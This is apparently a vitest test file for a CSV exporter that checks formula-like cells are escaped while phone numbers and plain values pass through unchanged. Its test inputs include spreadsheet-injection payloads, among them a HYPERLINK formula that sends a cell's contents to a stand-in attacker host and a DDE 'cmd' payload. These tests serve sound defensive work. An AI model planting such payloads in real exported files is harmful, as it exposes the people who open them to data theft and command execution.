import { expect, test } from 'vitest';
import { readNumber } from '../../../../src/outbound/number.ts';
import { csvLines } from '../../../../src/records/analysis/table.ts';

test.each([
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+cmd|/C calc!A0',
  '+1+1',
  '+91 98765 43210',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '+12127365000=1',
])('a cell that a spreadsheet would run is neutralised in tables: %j', (cell) => {
  expect(csvLines([[cell]]).replaceAll('""', '"')).toMatch(/^"?'/u);
});

test.each(['+919876543210', '+12127365000', '-12.5', '17', 'a=b', ''])('a cell that none would run is as it was: %j', (cell) => {
  expect(csvLines([['x', cell]])).toBe(`x,${cell}\r\n`);
});

test('a telephone number that was exported can be read again, as earlier exports wrote it too', () => {
  for (const cell of [csvLines([['+919876543210']]).trim(), "'+919876543210"])
    expect(readNumber(cell)).toMatchObject({ e164: '+919876543210' });
});
